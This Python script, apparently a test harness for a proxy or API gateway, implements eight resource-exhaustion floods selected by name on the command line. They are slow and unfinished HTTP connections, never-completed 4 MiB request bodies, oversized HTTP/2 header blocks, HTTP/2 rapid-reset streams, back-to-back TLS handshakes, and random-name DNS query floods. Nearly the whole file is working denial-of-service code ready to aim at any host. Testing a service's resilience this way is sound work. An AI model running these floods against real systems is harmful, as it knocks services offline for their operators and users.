"""What a stranger does in a host, or at the API, to be paid for by others. Each flood goes on until its input ends.

Usage: floods.py NAME [ARGUMENT...]; it prints "ready" once what it holds is held, and at its end what became of it.
"""

import collections
import json
import os
import resource
import select
import socket
import ssl
import sys
import threading
import time

seen = collections.Counter()
over = threading.Event()


def until_told():
    """Stops what goes on when standard input ends."""
    def wait():
        while os.read(0, 1024):
            pass
        over.set()
    threading.Thread(target=wait, daemon=True).start()


def ready():
    print("ready", flush=True)


def many_files():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def dial(host, port):
    connection = socket.create_connection((host, port), timeout=5)
    connection.setblocking(False)
    return connection


def hold(host, port, count, first=b"", each=lambda connection: None):
    """Opens up to `count` connections, says `first` on each, and keeps them; those that are ended are opened again."""
    many_files()
    open_ones = []
    announced = False
    while not over.is_set():
        for _ in range(200):
            if len(open_ones) >= count:
                break
            try:
                connection = dial(host, port)
                if first:
                    connection.send(first)
                open_ones.append(connection)
                seen["opened"] += 1
            except OSError as error:
                seen[type(error).__name__] += 1
                break
        if not announced and (len(open_ones) >= count or seen["ended by them"] or seen["opened"] > 2 * count):
            ready()
            announced = True
        poll = select.poll()
        by_number = {connection.fileno(): connection for connection in open_ones}
        for number in by_number:
            poll.register(number, select.POLLIN)
        ended = set()
        for number, _ in poll.poll(50):
            try:
                data = by_number[number].recv(4096)
            except OSError:
                data = b""
            if data.startswith(b"HTTP/1.1 "):
                seen[data[9:12].decode()] += 1
            if not data or b"onnection: close" in data:
                ended.add(number)
        for number in ended:
            by_number[number].close()
        seen["ended by them"] += len(ended)
        open_ones = [connection for connection in open_ones if connection.fileno() >= 0]
        if ended:
            # As impatient as a client may be that is told no.
            time.sleep(0.05)
    seen["held at the end"] = len(open_ones)


def idle(host, port, count):
    hold(host, int(port), int(count))


def unfinished(host, port, count):
    """Heads of 58 KB whose end does not come."""
    head = f"GET / HTTP/1.1\r\nhost: {host}\r\n".encode()
    for n in range(14):
        head += f"x-{n}: ".encode() + b"x" * 4100 + b"\r\n"
    hold(host, int(port), int(count), head)


def silent_target(host, port, count):
    """Requests that wait for a target that never answers."""
    hold(host, int(port), int(count), f"GET /silent HTTP/1.1\r\nhost: {host}\r\n\r\n".encode())


def unsigned(host, port, count):
    """Bodies of 4 MiB, unsigned, whose last byte does not come."""
    many_files()
    size = 4 << 20
    head = f"POST / HTTP/1.1\r\nhost: vpc-lattice.us-east-1.amazonaws.com\r\ncontent-length: {size}\r\n\r\n".encode()
    open_ones = []
    for _ in range(int(count)):
        try:
            connection = socket.create_connection((host, int(port)), timeout=10)
            connection.sendall(head + b"x" * (size - 1))
            open_ones.append(connection)
            seen["sent"] += 1
        except OSError as error:
            seen[type(error).__name__] += 1
    ready()
    over.wait()


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name, value):
    """Without indexing, without Huffman's code; up to 16,000 bytes."""
    def text(data):
        if len(data) < 127:
            return bytes([len(data)]) + data
        rest, out = len(data) - 127, bytearray([127])
        while rest >= 128:
            out.append(rest % 128 | 128)
            rest //= 128
        return bytes(out) + bytes([rest]) + data
    return b"\0" + text(name.encode()) + text(value.encode())


def http2(host, port, ca):
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    stream = context.wrap_socket(socket.create_connection((host, port), timeout=10), server_hostname=host)
    stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    stream.settimeout(2)
    return stream


def head(host, path, *more):
    # :method GET and :scheme https of the static table.
    return b"\x82\x87" + field(":authority", host) + field(":path", path) + b"".join(more)


def http2_heads(host, port, ca, connections):
    """Heads of 12 KB, a hundred on each connection, at a target that never answers."""
    many_files()
    block = head(host, "/silent", field("x-long", "x" * 12_000))
    open_ones = []
    for _ in range(int(connections)):
        try:
            stream = http2(host, int(port), ca)
            for n in range(100):
                stream.sendall(frame(1, 5, 1 + 2 * n, block))
                seen["heads"] += 1
            open_ones.append(stream)
        except OSError as error:
            seen[type(error).__name__] += 1
    ready()
    while not over.is_set():
        for stream in open_ones:
            stream.settimeout(0.01)
            try:
                data = stream.recv(65536)
                seen["refused"] += data.count(b"\x00\x00\x04\x03\x00")
            except OSError:
                pass
        time.sleep(0.1)


def resets(host, port, ca):
    """Requests that are reset as soon as they are made."""
    ready()
    block = head(host, "/")
    while not over.is_set():
        try:
            stream, number = http2(host, int(port), ca), 1
            while not over.is_set():
                stream.sendall(b"".join(
                    frame(1, 5, n, block) + frame(3, 0, n, b"\0\0\0\x08") for n in range(number, number + 200, 2)))
                number += 200
                seen["requests"] += 100
        except OSError as error:
            seen[type(error).__name__] += 1
            time.sleep(0.05)


def handshakes(host, port, ca):
    """TLS handshakes, one after the other, on four threads."""
    ready()

    def shake():
        context = ssl.create_default_context(cafile=ca)
        while not over.is_set():
            try:
                with socket.create_connection((host, int(port)), timeout=10) as plain:
                    with context.wrap_socket(plain, server_hostname=host):
                        seen["handshakes"] += 1
            except OSError as error:
                seen[type(error).__name__] += 1

    threads = [threading.Thread(target=shake) for _ in range(4)]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]


def names(server, count):
    """Questions for names that are not there, without waiting for answers."""
    ready()
    socket_ = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    n = 0
    while not over.is_set():
        question = f"n{n}".encode()
        packet = n.to_bytes(2, "big")[-2:] if n < 65536 else os.urandom(2)
        packet += b"\1\0\0\1\0\0\0\0\0\0" + bytes([len(question)]) + question + b"\4test\0\0\1\0\1"
        try:
            socket_.sendto(packet, (server, 53))
            seen["questions"] += 1
        except OSError as error:
            seen[type(error).__name__] += 1
        n += 1
        if n % int(count) == 0:
            time.sleep(0.01)


if __name__ == "__main__":
    until_told()
    {flood.__name__: flood for flood in (
        idle, unfinished, silent_target, unsigned, http2_heads, resets, handshakes, names)}[sys.argv[1]](*sys.argv[2:])
    print(json.dumps(seen), flush=True)
